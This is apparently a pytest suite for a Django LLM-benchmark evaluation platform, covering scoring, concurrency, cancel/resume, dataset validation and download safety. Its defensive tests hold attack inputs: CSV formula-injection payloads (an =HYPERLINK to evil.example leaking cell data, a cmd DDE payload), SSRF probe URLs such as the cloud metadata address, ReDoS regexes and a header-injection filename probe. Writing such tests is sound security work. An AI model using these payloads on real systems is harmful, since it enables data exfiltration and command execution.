import asyncio

import pytest
from asgiref.sync import sync_to_async

from evals import engine
from evals.actions import EvalConfigError, cancel_eval, create_eval, resume_eval
from evals.benchmarks import gsm8k
from evals.benchmarks.base import Benchmark, Row, Score
from evals.benchmarks.gsm8k import gsm8k_answer
from evals.models import Deployment, Eval, Sample
from evals.scoring.base import ScoringError
from evals.scoring.extraction import last_number, strip_fences
from evals.subset import select_rows
from evals.tasks import run_async, run_eval

from .concurrency import start_thread
from .fakes.openai_server import FakeOpenAI
from .harness_fixtures import wait_for

# The fake model servers listen on loopback, which production refuses (the suite's default).
pytestmark = pytest.mark.usefixtures("loopback_deployments")

REFERENCES = {row["input"]: row["reference"] for row in gsm8k.rows()}


def right_answer(question: str) -> str:
    return f"Let me think.\n#### {REFERENCES.get(question, '0')}"


@pytest.fixture
def fake():
    with FakeOpenAI(answer=right_answer) as server:
        yield server


@pytest.fixture
def deployment(project, fake):
    return Deployment.objects.create(project=project, name="fake", base_url=fake.url, model="fake-model", api_key="sk-test-secret-1234")


@pytest.mark.parametrize(
    "output, expected",
    [
        ("The answer is 18.", "18"),
        ("#### 18", "18"),
        ("She pays $1,234.50 in total\n#### $1,234.50", "1234.5"),
        ("18.00", "18"),
        ("18.0", "18"),
        ("It drops to -3 degrees", "-3"),
        ("0.5 of the cake", "0.5"),
        ("first 7, then #### 12 \nthen 99", "12"),
        ("Step 1: 4 apples. Step 2: 10 apples.", "10"),
        ("#### 1,000,000", "1000000"),
        ("no numbers here", None),
        ("The total is 42. ", "42"),
        ("costs $5", "5"),
        ("####", None),
    ],
)
def test_gsm8k_extraction(output, expected):
    assert gsm8k_answer(output) == expected


def test_numbers_compare_equal_however_written():
    assert last_number("18") == last_number("18.0") == last_number("18.00") == "18"


@pytest.mark.parametrize(
    "completion, expected",
    [
        ("    return x + 1\n", "    return x + 1\n"),
        ("```python\n    return x + 1\n```", "    return x + 1\n"),
        ("Here you go:\n```\n    return x + 1\n```\nHope it helps", "    return x + 1\n"),
        ("```py\n    if x:\n        return 1\n```", "    if x:\n        return 1\n"),
    ],
)
def test_code_fences_are_stripped_keeping_indentation(completion, expected):
    assert strip_fences(completion) == expected


def test_subsets_are_deterministic_by_seed():
    assert select_rows(1319, 20, seed=7) == select_rows(1319, 20, seed=7)
    assert select_rows(1319, 20, seed=7) != select_rows(1319, 20, seed=8)
    assert len(set(select_rows(1319, 20, seed=7))) == 20
    assert select_rows(10, None, seed=1) == list(range(10))


def test_the_catalog_lists_benchmarks(api):
    catalog = {b["name"]: b for b in api.get("/api/v1/benchmarks").json()}
    assert catalog["gsm8k"]["rows"] == 1319 and catalog["humaneval"]["rows"] == 164
    assert catalog["gsm8k"]["generation"]["temperature"] == 0
    assert catalog["humaneval"]["metric"] == "pass@1"


@pytest.mark.django_db(transaction=True)
def test_an_eval_keeps_a_hundred_requests_in_flight(project, owner, fake, deployment):
    fake.latency = 0.2
    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=400)
    run_eval(ev.pk)
    ev.refresh_from_db()
    assert fake.peak_in_flight == 100
    assert (ev.status, ev.done_count, ev.total, ev.error_count, ev.score) == ("succeeded", 400, 400, 0, 1.0)
    assert fake.requests[0]["auth"] == "Bearer sk-test-secret-1234"
    assert fake.requests[0]["body"]["temperature"] == 0
    indices = set(Sample.objects.filter(eval=ev).values_list("row_index", flat=True))
    assert indices == set(select_rows(1319, 400, ev.seed))


@pytest.mark.django_db(transaction=True)
def test_retries_then_error_count_not_wrong_answers(project, owner, fake, deployment, settings):
    settings.EVAL_RETRY_BASE_SECONDS = 0.01
    rows = [gsm8k.rows()[i] for i in select_rows(1319, 5, 1)]
    fake.fail_statuses[rows[0]["input"]] = [429, 500, 503]  # recovers on the 4th attempt
    fake.always_fail[rows[1]["input"]] = 500  # never recovers
    fake.always_fail[rows[2]["input"]] = 400  # not retried at all
    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=5, seed=1)
    run_eval(ev.pk)
    ev.refresh_from_db()
    assert (ev.done_count, ev.error_count, ev.score) == (5, 2, 1.0)
    errors = dict(Sample.objects.filter(eval=ev).exclude(error="").values_list("input", "error"))
    assert "Gave up after 4 attempts" in errors[rows[1]["input"]]
    assert "HTTP 400" in errors[rows[2]["input"]]
    asked = [r["body"]["messages"][-1]["content"] for r in fake.requests]
    assert asked.count(rows[0]["input"]) == 4 and asked.count(rows[1]["input"]) == 4 and asked.count(rows[2]["input"]) == 1


@pytest.mark.django_db(transaction=True)
def test_cancel_stops_the_worker_and_no_request_is_made_after_it(project, owner, fake, deployment):
    import time

    fake.latency = 0.2  # 300 rows take a minute: time to step in
    deployment.max_in_flight = 5
    deployment.save()
    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=300)
    worker = start_thread(run_eval, ev.pk)
    wait_for(lambda: Eval.objects.get(pk=ev.pk).done_count >= 20, interval=0.05)
    # Hold the answers: the engine fills its five slots, then waits.
    fake.answering.clear()
    wait_for(lambda: fake.in_flight == 5, interval=0.01)
    made_before_cancel = len(fake.requests)
    assert cancel_eval(ev)
    time.sleep(2.5)  # longer than the engine takes to notice a cancel
    fake.answering.set()  # the five finish: the slots free up, nothing new goes out
    worker.join(30)
    assert not worker.is_alive(), "the worker kept running after cancel"
    assert len(fake.requests) == made_before_cancel
    ev.refresh_from_db()
    assert ev.status == "cancelled"
    # Every request made was answered and its row stored, the five in flight at the cancel included.
    assert ev.done_count == Sample.objects.filter(eval=ev).count() == made_before_cancel


class LastRowScoresLate(Benchmark):
    """The last row's scoring outlasts a flush tick, so the tick takes the first row's sample alone."""

    name = "last_row_scores_late"

    def prompt(self, row):
        return [{"role": "user", "content": row.input}]

    async def score(self, row, output, sandbox=None):
        if row.id == "1":
            await asyncio.sleep(engine.BATCH_SECONDS + 0.25)
        return Score(1.0, output)


@pytest.mark.django_db(transaction=True)
def test_a_batch_the_flush_has_taken_when_the_rows_end_is_stored(project, owner, deployment, monkeypatch):
    """The rows end while the periodic flush is writing the batch it took.

    On a loaded machine the ORM thread picks a call up late; here it always
    does, by half a second. A flush tick takes row 0's sample and waits for
    the ORM; row 1 ends inside that wait. Cancelling the flush then dropped
    its batch, and the eval stayed running one row short of its total
    (tests/test_e2e_browser.py: stuck at 18/20).
    """
    monkeypatch.setattr(engine, "BATCH_SECONDS", 0.2)

    def picked_up_late(fn):
        call = sync_to_async(fn)

        async def late(*args, **kwargs):
            await asyncio.sleep(0.5)
            return await call(*args, **kwargs)

        return late

    monkeypatch.setattr(engine, "sync_to_async", picked_up_late)
    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=2)
    Eval.objects.filter(pk=ev.pk).update(status=Eval.Status.RUNNING, total=2)
    ev = Eval.objects.select_related("deployment").get(pk=ev.pk)
    rows = [(i, Row(id=str(i), input=f"q{i}", reference="1")) for i in range(2)]
    run_async(engine.EvalRun(ev, LastRowScoresLate(), rows).run())
    assert sorted(Sample.objects.filter(eval=ev).values_list("row_index", flat=True)) == [0, 1]
    assert Eval.objects.get(pk=ev.pk).done_count == 2


def test_a_worker_whose_eval_was_taken_over_does_not_end_it_with_rows_missing(project, owner, deployment):
    """A worker taken for dead finds its eval resumed and claimed by another: its pass ends, the eval goes on."""
    from evals.engine import refresh_counters
    from evals.tasks import finish

    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=3)
    Eval.objects.filter(pk=ev.pk).update(status=Eval.Status.RUNNING, total=3)
    for index in (0, 1):
        Sample.objects.create(eval=ev, row_index=index, input=f"q{index}", output="#### 1", score=1.0)
    refresh_counters(ev.pk)
    # Two of three rows stored (the other worker is still on the third).
    assert finish(ev.pk) is False and Eval.objects.get(pk=ev.pk).status == "running"
    Sample.objects.create(eval=ev, row_index=2, input="q2", output="#### 1", score=0.0)
    refresh_counters(ev.pk)
    assert finish(ev.pk) is True
    ev.refresh_from_db()
    assert (ev.status, ev.done_count, ev.total) == ("succeeded", 3, 3)


@pytest.mark.django_db(transaction=True)
def test_resume_after_a_killed_worker_has_no_duplicates(project, owner, fake, deployment, settings, subprocess_env):
    import os
    import signal
    import subprocess
    import sys
    import time

    from evals.tasks import resume_stale_evals

    fake.latency = 0.1
    deployment.max_in_flight = 10
    deployment.save()
    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=200)
    env = {**subprocess_env, "BELVEDIR_ALLOW_PRIVATE_DEPLOYMENTS": "1"}
    worker = subprocess.Popen(
        [sys.executable, "manage.py", "shell", "-c", f"from evals.tasks import run_eval; run_eval({ev.pk})"], env=env, start_new_session=True
    )
    try:
        wait_for(lambda: Sample.objects.filter(eval=ev).count() >= 60, timeout=60, interval=0.05)
        # Hold the answers: ten requests stay in flight, and every answered row gets flushed.
        fake.answering.clear()
        wait_for(lambda: fake.in_flight == 10, timeout=30, interval=0.01)
        asked_before_kill = len(fake.requests)
        wait_for(lambda: Sample.objects.filter(eval=ev).count() == asked_before_kill - 10, timeout=30, interval=0.05)
    finally:
        os.killpg(worker.pid, signal.SIGKILL)
        worker.wait()
    fake.answering.set()
    stored_before = set(Sample.objects.filter(eval=ev).values_list("input", flat=True))
    assert len(stored_before) == asked_before_kill - 10
    assert Eval.objects.get(pk=ev.pk).status == "running"

    settings.EVAL_STALE_SECONDS = 1
    time.sleep(1.5)
    assert resume_stale_evals() == 1
    run_eval(ev.pk)  # what the queue does with the re-queued eval
    ev.refresh_from_db()
    assert (ev.status, ev.done_count, ev.total) == ("succeeded", 200, 200)
    assert Sample.objects.filter(eval=ev).count() == 200
    asked = [r["body"]["messages"][-1]["content"] for r in fake.requests]
    assert all(asked.count(question) == 1 for question in stored_before)
    # The resumed pass asked exactly the rows not stored: the ten lost in flight and those never sent.
    assert len(asked) == asked_before_kill + 200 - len(stored_before)


@pytest.mark.django_db
def test_benchmark_rules_are_enforced_with_named_messages(api, project, deployment):
    from evals.datasets.versions import create_dataset

    dataset = create_dataset(project, None, "d", b'{"input": "1+1", "expected": "2"}\n')
    both = api.post("/api/v1/evals", {"benchmark": "gsm8k", "dataset_id": dataset.pk, "deployment": "fake"}, format="json")
    assert both.status_code == 400 and "takes no dataset" in both.json()["detail"]
    mixed = api.post("/api/v1/evals", {"benchmark": "gsm8k", "deployment": "fake", "scorers": ["exact_match"]}, format="json")
    assert mixed.status_code == 400 and "cannot be combined" in mixed.json()["detail"]
    assert "Unknown benchmark" in api.post("/api/v1/evals", {"benchmark": "mmlu_pro", "deployment": "fake"}, format="json").json()["detail"]
    assert api.post("/api/v1/evals", {"dataset_id": dataset.pk, "deployment": "fake"}, format="json").status_code == 400
    assert api.post("/api/v1/evals", {"benchmark": "gsm8k", "deployment": "nope"}, format="json").status_code == 400
    assert not Eval.objects.exists()


@pytest.mark.django_db
def test_the_form_shows_the_same_rule(owner_client, project, deployment):
    from evals.datasets.versions import create_dataset

    dataset = create_dataset(project, None, "d", b'{"input": "1+1", "expected": "2"}\n')
    response = owner_client.post("/evals/new/dataset/", {"dataset": dataset.pk, "deployment": deployment.pk, "scorers": []})
    assert "This field is required" in response.content.decode()
    with pytest.raises(EvalConfigError, match="takes no dataset"):
        create_eval(project, None, deployment=deployment, benchmark="gsm8k", dataset=dataset)


@pytest.mark.django_db(transaction=True)
def test_dataset_eval_with_every_scorer(project, owner, fake, deployment):
    from evals.datasets.versions import create_dataset

    judge = Deployment.objects.create(project=project, name="judge", base_url=fake.url, model="judge")
    fake.answer = lambda text: "CORRECT" if text.startswith("You grade") else "The capital is Paris, population 2,100,000"
    dataset = create_dataset(
        project, owner, "capitals", b'{"input": "Capital of France?", "expected": "Paris"}\n{"input": "Capital of Spain?", "expected": "Madrid"}\n'
    )
    ev = create_eval(project, owner, deployment=deployment, dataset=dataset, scorers=["contains", {"name": "llm_judge", "deployment": judge.pk}])
    run_eval(ev.pk)
    ev.refresh_from_db()
    assert ev.status == "succeeded" and ev.score == 0.5
    madrid = Sample.objects.get(eval=ev, reference="Madrid")
    assert madrid.score == 0.0 and {name: madrid.scores[name] for name in ("contains", "llm_judge")} == {"contains": 0.0, "llm_judge": 1.0}
    assert madrid.scores["judge"] == f"{judge.pk}:dataset-correct@1" and madrid.scores["judge_reasoning"] == "CORRECT"
    assert ev.judge == judge and ev.judge_prompt_tokens > 0  # the judge's tokens are the eval's
    ev2 = create_eval(
        project,
        owner,
        deployment=deployment,
        dataset=dataset,
        scorers=["exact_match", "last_number", {"name": "regex", "options": {"pattern": "Paris|Madrid"}}],
    )
    run_eval(ev2.pk)
    assert Eval.objects.get(pk=ev2.pk).score == 0.0


@pytest.mark.parametrize(
    "data, message",
    [
        (b"not json\n", "Line 1 is not valid JSON"),
        (b'{"input": "x"}\n', 'needs an object with "input" and "expected"'),
        (b"", "The submitted file is empty"),
        (b"\xff", "not UTF-8"),
    ],
)
@pytest.mark.django_db
def test_bad_datasets_are_refused(api, data, message):
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = api.post("/api/v1/datasets", {"name": "bad", "file": SimpleUploadedFile("d.jsonl", data)}, format="multipart")
    # An empty file is refused by the upload form's own rule (as on the Datasets page), the others by the parser.
    assert response.status_code == 400 and message in str(response.json())


@pytest.mark.django_db
def test_deployments_api_masks_keys_and_tests_the_connection(api, fake):
    created = api.post("/api/v1/deployments", {"name": "gpt", "base_url": fake.url, "model": "m", "api_key": "sk-verysecretvalue"}, format="json")
    assert created.status_code == 201
    assert "sk-verysecretvalue" not in created.content.decode()
    assert created.json()["api_key_masked"].startswith("sk-")
    tested = api.post(f"/api/v1/deployments/{created.json()['id']}/test").json()
    assert tested["ok"] is True and tested["reply"]
    fake.always_fail["Reply with OK."] = 401
    assert "HTTP 401" in api.post(f"/api/v1/deployments/{created.json()['id']}/test").json()["error"]


@pytest.mark.django_db
def test_private_deployment_urls_are_refused_in_production(api, settings):
    settings.EVAL_ALLOW_PRIVATE_URLS = False
    for url in ["http://127.0.0.1:8080/v1", "http://10.0.0.5/v1", "http://169.254.169.254/latest", "http://localhost/v1"]:
        response = api.post("/api/v1/deployments", {"name": url, "base_url": url, "model": "m"}, format="json")
        assert response.status_code == 400 and "private or local" in str(response.json()["base_url"]), url


@pytest.mark.django_db(transaction=True)
def test_results_pages_api_and_downloads(api, owner_client, outsider_api, project, owner, fake, deployment):
    solved = {gsm8k.rows()[i]["input"] for i in select_rows(1319, 10, 3)[:3]}
    fake.answer = lambda q: right_answer(q) if q in solved else "#### 0"  # no gsm8k answer is 0
    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=10, seed=3)
    run_eval(ev.pk)
    body = api.get(f"/api/v1/evals/{ev.pk}").json()
    assert (body["status"], body["total"], body["score"]) == ("succeeded", 10, 0.3)
    wrong = api.get(f"/api/v1/evals/{ev.pk}/samples", {"filter": "wrong"}).json()
    assert wrong["count"] == 7 and not {s["input"] for s in wrong["results"]} & solved
    assert api.get(f"/api/v1/evals/{ev.pk}/samples", {"filter": "errors"}).json()["count"] == 0
    assert len(api.get(f"/api/v1/evals/{ev.pk}/samples", {"download": "jsonl"}).content.decode().splitlines()) == 10
    assert api.get(f"/api/v1/evals/{ev.pk}/samples", {"download": "csv"}).content.decode().startswith("row_index,input")
    assert api.post(f"/api/v1/evals/{ev.pk}/cancel").status_code == 409
    assert api.post(f"/api/v1/evals/{ev.pk}/resume").status_code == 409
    page = owner_client.get(f"/evals/{ev.pk}/").content.decode()
    assert "10/10" in page and "Wrong only" in page
    assert owner_client.get(f"/evals/{ev.pk}/?part=progress", HTTP_HX_REQUEST="true").status_code == 286
    assert "<svg" in owner_client.get("/evals/compare/gsm8k/").content.decode()
    assert owner_client.get(f"/evals/{ev.pk}/samples.csv").status_code == 200
    assert outsider_api.get(f"/api/v1/evals/{ev.pk}").status_code == 404
    assert outsider_api.get(f"/api/v1/evals/{ev.pk}/samples").status_code == 404
    assert outsider_api.post(f"/api/v1/evals/{ev.pk}/cancel").status_code == 404


@pytest.mark.django_db(transaction=True)
def test_a_catastrophic_regex_errors_the_sample_within_its_time_limit(project, owner, fake, deployment):
    import time

    from evals.benchmarks.base import Row
    from evals.datasets.evals import DatasetBenchmark
    from evals.datasets.versions import create_dataset

    fake.answer = lambda text: "a" * 26 + "!"  # ^(a|a)*$ backtracks 2^26 ways on it
    dataset = create_dataset(project, owner, "evil", b"".join(b'{"input": "q%d", "expected": "x"}\n' % i for i in range(6)))
    scorers = [{"name": "regex", "options": {"pattern": "^(a|a)*$"}}]
    # The engine scores on its event loop: one sample may hold it < 100 ms.
    # Measured in this thread's CPU time: on a machine shared with other test
    # runs, wall time also counts the waits for a core.
    for pattern in ("^(a|a)*$", "^(a+)+$"):
        started = time.thread_time()
        try:
            asyncio.run(DatasetBenchmark(dataset, [{"name": "regex", "options": {"pattern": pattern}}]).score(Row("0", "q0", "x"), "a" * 26 + "!"))
        except ScoringError as exc:
            assert "took longer than 50 ms" in str(exc)
        assert time.thread_time() - started < 0.1, pattern

    ev = create_eval(project, owner, deployment=deployment, dataset=dataset, scorers=scorers)
    run_eval(ev.pk)
    ev.refresh_from_db()
    assert (ev.status, ev.done_count, ev.error_count) == ("failed", 6, 6)
    assert all("took longer than 50 ms" in s.error for s in Sample.objects.filter(eval=ev))


@pytest.mark.django_db
def test_an_invalid_regex_is_refused_when_the_eval_is_created(project, owner, deployment):
    from evals.datasets.versions import create_dataset

    dataset = create_dataset(project, owner, "d", b'{"input": "1+1", "expected": "2"}\n')
    with pytest.raises(EvalConfigError, match="pattern is invalid"):
        create_eval(project, owner, deployment=deployment, dataset=dataset, scorers=[{"name": "regex", "options": {"pattern": "(unclosed"}}])


@pytest.mark.django_db
def test_an_eval_that_keeps_stalling_ends_error_after_bounded_resumes(project, owner, deployment, settings):
    from django.utils import timezone

    from evals.tasks import resume_stale_evals

    settings.EVAL_MAX_AUTO_RESUMES = 3
    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=5)
    long_ago = timezone.now() - timezone.timedelta(hours=1)
    statuses = []
    for _ in range(6):
        # A worker claims it and dies without a heartbeat, every time.
        Eval.objects.filter(pk=ev.pk, status="queued").update(status="running", heartbeat_at=long_ago)
        resume_stale_evals()
        statuses.append(Eval.objects.get(pk=ev.pk).status)
    assert statuses == ["queued", "queued", "queued", "error", "error", "error"]
    ev.refresh_from_db()
    assert "stopped 4 times in a row" in ev.status_message
    # A person may still try again, and the count starts over.
    assert resume_eval(ev) and Eval.objects.get(pk=ev.pk).auto_resumes == 0


@pytest.mark.django_db(transaction=True)
def test_csv_downloads_neutralise_formulas(api, project, owner, fake, deployment):
    import csv
    import io

    from evals.datasets.versions import create_dataset

    payloads = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
    fake.answer = lambda text: payloads[int(text[1:])]
    dataset = create_dataset(project, owner, "f", b"".join(b'{"input": "q%d", "expected": "=1+1"}\n' % i for i in range(4)))
    ev = create_eval(project, owner, deployment=deployment, dataset=dataset, scorers=["exact_match"])
    run_eval(ev.pk)
    response = api.get(f"/api/v1/evals/{ev.pk}/samples", {"download": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(row["output"] for row in rows) == sorted("'" + p for p in payloads)
    assert {row["reference"] for row in rows} == {"'=1+1"}
    assert {row["score"] for row in rows} == {"0.0"}  # numbers stay numbers


@pytest.mark.django_db
def test_samples_download_only_as_csv_or_jsonl_and_the_url_never_names_the_file(api, owner_client, project, deployment):
    ev = Eval.objects.create(project=project, deployment=deployment, benchmark="gsm8k", seed=1)
    Sample.objects.create(eval=ev, row_index=0, input="q0", output="#### 1", score=1.0)
    csv_file = owner_client.get(f"/evals/{ev.pk}/samples.csv")
    assert csv_file["Content-Disposition"] == f'attachment; filename="eval-{ev.pk}-samples.csv"'
    assert csv_file.content.decode().startswith("row_index,input")
    jsonl_file = owner_client.get(f"/evals/{ev.pk}/samples.jsonl")
    assert jsonl_file["Content-Disposition"] == f'attachment; filename="eval-{ev.pk}-samples.jsonl"'
    assert jsonl_file["Content-Type"] == "application/x-ndjson"
    # What a probe sent: the format ended the filename and added a parameter.
    for other in ["html%22%3B%20x%3D%22", "html", "CSV", ""]:
        response = owner_client.get(f"/evals/{ev.pk}/samples.{other}")
        assert response.status_code == 404 and "Content-Disposition" not in response, other
    assert api.get(f"/api/v1/evals/{ev.pk}/samples", {"download": "html"}).status_code == 404
    assert api.get(f"/api/v1/evals/{ev.pk}/samples", {"download": "jsonl"}).content.decode().count("\n") == 1


def test_a_batch_of_samples_is_stored_whole_and_a_row_another_pass_stored_is_kept_not_doubled(project, owner, deployment):
    """The engine's batches go to PostgreSQL by binary COPY (evals/sample_writes.py): every column comes back as
    written, JSON and NULLs included; a batch holding a row another pass of the eval stored meanwhile stores the
    rest and keeps the other pass's row; a batch of an eval deleted mid-run is refused as Django's IntegrityError,
    which the engine logs instead of ending the pass."""
    from django.db import IntegrityError, connection, transaction

    from evals.sample_writes import NewSample, store

    ev = create_eval(project, owner, deployment=deployment, benchmark="gsm8k", sample_limit=3)

    def row(index, output):
        return NewSample(eval_id=ev.pk, row_index=index, input=f"q{index}", reference="1", category={"subject": "é"}, output=output)

    first = row(0, "first")
    first.scores, first.completions, first.score, first.latency_ms, first.prompt_tokens = {"passed": 1, "n": 2}, [{"output": "a"}], 0.5, 12.5, 7
    store([first, row(1, "one pass")])
    store([row(1, "the other pass"), row(2, "two")])
    stored = {s.row_index: s for s in Sample.objects.filter(eval=ev)}
    assert sorted(stored) == [0, 1, 2]
    assert stored[1].output == "one pass" and stored[2].output == "two"
    zero = stored[0]
    assert (zero.scores, zero.completions, zero.category, zero.score, zero.latency_ms, zero.prompt_tokens) == (
        {"passed": 1, "n": 2},
        [{"output": "a"}],
        {"subject": "é"},
        0.5,
        12.5,
        7,
    )
    assert (stored[2].score, stored[2].completion_tokens, stored[2].error, stored[2].created_at is not None) == (None, None, "", True)
    gone = ev.pk
    Eval.objects.filter(pk=gone).delete()
    # Foreign keys are checked at commit, and this test's transaction commits nothing: checked at once instead.
    with connection.cursor() as cursor:
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
    with pytest.raises(IntegrityError), transaction.atomic():
        store([row(3, "orphan")])
    assert not Sample.objects.filter(eval_id=gone).exists()
